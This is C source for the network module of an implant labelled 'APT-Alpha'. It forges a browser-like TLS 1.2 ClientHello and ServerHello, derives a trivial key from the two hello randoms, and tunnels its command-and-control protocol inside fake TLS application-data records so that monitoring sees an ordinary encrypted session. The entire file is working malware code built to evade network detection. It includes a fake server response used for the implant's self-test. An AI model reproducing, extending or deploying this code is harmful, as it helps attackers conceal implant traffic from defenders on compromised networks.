/* APT-Alpha: fake TLS 1.2 ClientHello / ServerHello and "application data" records.
 *
 * The handshake is never completed: the implant sends a ClientHello that looks like a browser's
 * (75 cipher suites, SNI, supported groups, signature algorithms), accepts whatever ServerHello the
 * C2 answers, derives a key from the two randoms and then wraps its own protocol in records of type
 * application_data. Network monitoring sees a TLS session; nothing in it is TLS cryptography. */
#include <string.h>
#include <time.h>

#include "alpha.h"

const uint16_t alpha_suites[ALPHA_NSUITES] = {
    0xc02c, 0xc02b, 0xc030, 0xc02f, 0x009f, 0x009e, 0xcca9, 0xcca8, 0xccaa, 0xc024, 0xc023, 0xc028,
    0xc027, 0xc00a, 0xc009, 0xc014, 0xc013, 0x009d, 0x009c, 0x003d, 0x003c, 0x0035, 0x002f, 0x000a,
    0xc02e, 0xc02d, 0xc032, 0xc031, 0xc026, 0xc025, 0xc02a, 0xc029, 0xc005, 0xc004, 0xc00f, 0xc00e,
    0x006b, 0x006a, 0x0067, 0x0040, 0x0039, 0x0038, 0x0033, 0x0032, 0x00a3, 0x00a2, 0x0088, 0x0087,
    0x0084, 0x0045, 0x0044, 0x0041, 0x009a, 0x0096, 0xc012, 0xc008, 0xc003, 0xc00d, 0xc002, 0xc007,
    0xc011, 0xc00c, 0x0016, 0x0013, 0x0066, 0x0005, 0x0004, 0x0007, 0x0009, 0x0015, 0xc072, 0xc073,
    0xc076, 0xc077, 0x00ff,
};

static const uint16_t alpha_groups[] = {0x001d, 0x0017, 0x0018, 0x0019, 0x0100, 0x0101};
static const uint16_t alpha_sigalgs[] = {0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806,
                                         0x0401, 0x0501, 0x0601, 0x0203, 0x0201};

static inline uint8_t *put16(uint8_t *p, unsigned v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
    return p + 2;
}

static inline uint8_t *put24(uint8_t *p, unsigned v)
{
    p[0] = (uint8_t)(v >> 16);
    p[1] = (uint8_t)(v >> 8);
    p[2] = (uint8_t)v;
    return p + 3;
}

static inline unsigned get16(const uint8_t *p) { return ((unsigned)p[0] << 8) | p[1]; }

static uint32_t lcg(uint32_t *st)
{
    *st = *st * 0x343fdu + 0x269ec3u;
    return (*st >> 16) & 0x7fff;
}

/* 4 bytes of gmt_unix_time then 28 bytes from a time-seeded LCG, like the early SSL libraries */
void alpha_tls_random(uint8_t out[32], uint32_t seed)
{
    uint32_t now = (uint32_t)time(NULL);
    uint32_t st = seed ^ now ^ 0x5a17c0deu;
    out[0] = (uint8_t)(now >> 24);
    out[1] = (uint8_t)(now >> 16);
    out[2] = (uint8_t)(now >> 8);
    out[3] = (uint8_t)now;
    for (int i = 4; i < 32; i++) {
        uint32_t r = lcg(&st);
        out[i] = (uint8_t)(r ^ (r >> 7) ^ (uint32_t)i * 0x3b);
    }
}

/* Shuffle the suite table with the seed (Fisher-Yates), keep the first `want` (GREASE-free),
 * always end with the renegotiation SCSV (0x00ff). Writes the length-prefixed vector. */
size_t alpha_tls_pick_suites(uint8_t *p, uint32_t seed, unsigned want)
{
    uint16_t tmp[ALPHA_NSUITES];
    uint32_t st = seed * 2654435761u;
    unsigned n = 0;

    for (int i = 0; i < ALPHA_NSUITES; i++)
        if (alpha_suites[i] != 0x00ff)
            tmp[n++] = alpha_suites[i];
    /* the strongest 8 suites stay in front, as browsers put them */
    for (unsigned i = n - 1; i > 8; i--) {
        unsigned j = 8 + lcg(&st) % (i - 7);
        uint16_t t = tmp[i];
        tmp[i] = tmp[j];
        tmp[j] = t;
    }
    if (want == 0 || want > n)
        want = n;
    uint8_t *q = put16(p, (want + 1) * 2);
    for (unsigned i = 0; i < want; i++)
        q = put16(q, tmp[i]);
    q = put16(q, 0x00ff);
    return (size_t)(q - p);
}

size_t alpha_tls_ext_sni(uint8_t *p, const char *host)
{
    size_t hl = strlen(host);
    if (hl > 253)
        hl = 253;
    uint8_t *q = put16(p, 0x0000);
    q = put16(q, (unsigned)hl + 5);
    q = put16(q, (unsigned)hl + 3);
    *q++ = 0; /* host_name */
    q = put16(q, (unsigned)hl);
    for (size_t i = 0; i < hl; i++) {
        char c = host[i];
        *q++ = (uint8_t)((c >= 'A' && c <= 'Z') ? c + 32 : c);
    }
    return (size_t)(q - p);
}

size_t alpha_tls_ext_groups(uint8_t *p)
{
    unsigned n = sizeof(alpha_groups) / sizeof(alpha_groups[0]);
    uint8_t *q = put16(p, 0x000a);
    q = put16(q, n * 2 + 2);
    q = put16(q, n * 2);
    for (unsigned i = 0; i < n; i++)
        q = put16(q, alpha_groups[i]);
    /* ec_point_formats: uncompressed only */
    q = put16(q, 0x000b);
    q = put16(q, 2);
    *q++ = 1;
    *q++ = 0;
    return (size_t)(q - p);
}

size_t alpha_tls_ext_sigalgs(uint8_t *p)
{
    unsigned n = sizeof(alpha_sigalgs) / sizeof(alpha_sigalgs[0]);
    uint8_t *q = put16(p, 0x000d);
    q = put16(q, n * 2 + 2);
    q = put16(q, n * 2);
    for (unsigned i = 0; i < n; i++)
        q = put16(q, alpha_sigalgs[i]);
    /* session_ticket (empty) and extended_master_secret, as a 2016 browser sends them */
    q = put16(q, 0x0023);
    q = put16(q, 0);
    q = put16(q, 0x0017);
    q = put16(q, 0);
    return (size_t)(q - p);
}

size_t alpha_tls_client_hello(uint8_t *out, size_t cap, const char *sni, uint32_t seed,
                              struct alpha_session *s)
{
    uint8_t body[1024];
    uint8_t *q = body;

    if (cap < 5 + 4 + sizeof(body))
        return 0;
    memset(s, 0, sizeof(*s));
    q = put16(q, 0x0303);
    alpha_tls_random(s->client_random, seed);
    memcpy(q, s->client_random, 32);
    q += 32;
    s->session_id_len = 32;
    alpha_tls_random(s->session_id, seed ^ 0x1d1d1d1du);
    *q++ = s->session_id_len;
    memcpy(q, s->session_id, s->session_id_len);
    q += s->session_id_len;
    q += alpha_tls_pick_suites(q, seed, ALPHA_NSUITES);
    *q++ = 1; /* compression methods: null */
    *q++ = 0;
    uint8_t *ext_len = q;
    q += 2;
    uint8_t *ext = q;
    q += alpha_tls_ext_sni(q, sni);
    q += alpha_tls_ext_groups(q);
    q += alpha_tls_ext_sigalgs(q);
    put16(ext_len, (unsigned)(q - ext));

    size_t blen = (size_t)(q - body);
    uint8_t *o = out;
    *o++ = ALPHA_REC_HANDSHAKE;
    o = put16(o, 0x0301); /* record layer version of a ClientHello */
    o = put16(o, (unsigned)blen + 4);
    *o++ = 0x01; /* client_hello */
    o = put24(o, (unsigned)blen);
    memcpy(o, body, blen);
    return (size_t)(o - out) + blen;
}

/* Accept the server's answer if it looks like a ServerHello with a suite from our table. */
int alpha_tls_parse_server_hello(const uint8_t *in, size_t n, struct alpha_session *s)
{
    if (n < 5 + 4 + 2 + 32 + 1)
        return -1;
    if (in[0] != ALPHA_REC_HANDSHAKE || in[1] != 3 || in[2] > 3)
        return -2;
    size_t rlen = get16(in + 3);
    if (rlen + 5 > n || in[5] != 0x02)
        return -3;
    size_t hlen = ((size_t)in[6] << 16) | ((size_t)in[7] << 8) | in[8];
    if (hlen + 4 > rlen)
        return -4;
    const uint8_t *p = in + 9;
    const uint8_t *end = p + hlen;
    if (get16(p) != 0x0303)
        return -5;
    p += 2;
    memcpy(s->server_random, p, 32);
    p += 32;
    unsigned sid = *p++;
    if (sid > 32 || p + sid + 3 > end)
        return -6;
    p += sid;
    unsigned suite = get16(p);
    p += 2;
    int known = 0;
    for (int i = 0; i < ALPHA_NSUITES; i++)
        if (alpha_suites[i] == suite) {
            known = 1;
            break;
        }
    if (!known || *p != 0)
        return -7;
    s->suite = (uint16_t)suite;
    alpha_tls_derive(s);
    return 0;
}

/* The "key exchange": a mix of the two randoms. Anyone who sees the hello messages can redo it. */
void alpha_tls_derive(struct alpha_session *s)
{
    uint32_t h = 0x811c9dc5u ^ s->suite;
    for (int i = 0; i < 32; i++) {
        h ^= s->client_random[i];
        h *= 0x01000193u;
        h ^= (uint32_t)s->server_random[31 - i] << (i & 7);
        h = (h << 5) | (h >> 27);
        s->key[i & 3] += h;
    }
    s->key[0] ^= 0xa1fa7a1fu;
    s->counter = s->key[3] & 0xffff;
}

static uint8_t keystream(struct alpha_session *s)
{
    uint32_t *k = s->key;
    uint32_t t = k[0] ^ (k[0] << 11);
    k[0] = k[1];
    k[1] = k[2];
    k[2] = k[3];
    k[3] = k[3] ^ (k[3] >> 19) ^ t ^ (t >> 8);
    s->counter++;
    return (uint8_t)(k[3] ^ (k[3] >> 13) ^ s->counter);
}

size_t alpha_tls_wrap(uint8_t *out, size_t cap, const uint8_t *data, size_t n, struct alpha_session *s)
{
    if (n > 16384 || n + 5 + 8 > cap)
        return 0;
    uint8_t *o = out;
    *o++ = ALPHA_REC_APPDATA;
    o = put16(o, 0x0303);
    o = put16(o, (unsigned)n + 8);
    /* fake explicit nonce: the counter, so the C2 can resynchronise */
    uint32_t c = s->counter;
    for (int i = 0; i < 4; i++)
        *o++ = (uint8_t)(c >> (24 - 8 * i));
    uint8_t sum = 0;
    for (size_t i = 0; i < n; i++) {
        sum = (uint8_t)(sum + data[i]);
        *o++ = data[i] ^ keystream(s);
    }
    for (int i = 0; i < 4; i++)
        *o++ = (uint8_t)(sum ^ keystream(s) ^ (i * 0x11));
    return (size_t)(o - out);
}

long alpha_tls_unwrap(uint8_t *out, size_t cap, const uint8_t *rec, size_t n, struct alpha_session *s)
{
    if (n < 5 + 8 || rec[0] != ALPHA_REC_APPDATA || get16(rec + 1) != 0x0303)
        return -1;
    size_t len = get16(rec + 3);
    if (len < 8 || len + 5 > n || len - 8 > cap)
        return -2;
    const uint8_t *p = rec + 5;
    uint32_t c = ((uint32_t)p[0] << 24) | ((uint32_t)p[1] << 16) | ((uint32_t)p[2] << 8) | p[3];
    if (c != s->counter)
        return -3;
    p += 4;
    size_t m = len - 8;
    uint8_t sum = 0;
    for (size_t i = 0; i < m; i++) {
        out[i] = p[i] ^ keystream(s);
        sum = (uint8_t)(sum + out[i]);
    }
    for (int i = 0; i < 4; i++)
        if (p[m + i] != (uint8_t)(sum ^ keystream(s) ^ (i * 0x11)))
            return -4;
    return (long)m;
}

/* What the C2 answers; the implants use it in their self-test. */
size_t alpha_tls_fake_server_hello(uint8_t *out, size_t cap, const struct alpha_session *client,
                                   uint32_t seed)
{
    if (cap < 128)
        return 0;
    uint8_t *o = out;
    *o++ = ALPHA_REC_HANDSHAKE;
    o = put16(o, 0x0303);
    uint8_t *rl = o;
    o += 2;
    *o++ = 0x02;
    uint8_t *hl = o;
    o += 3;
    o = put16(o, 0x0303);
    alpha_tls_random(o, seed ^ 0x5e7e5e7eu);
    o += 32;
    *o++ = client->session_id_len;
    memcpy(o, client->session_id, client->session_id_len);
    o += client->session_id_len;
    o = put16(o, alpha_suites[seed % 9]);
    *o++ = 0;
    o = put16(o, 0);
    put24(hl, (unsigned)(o - hl - 3));
    put16(rl, (unsigned)(o - rl - 2));
    return (size_t)(o - out);
}
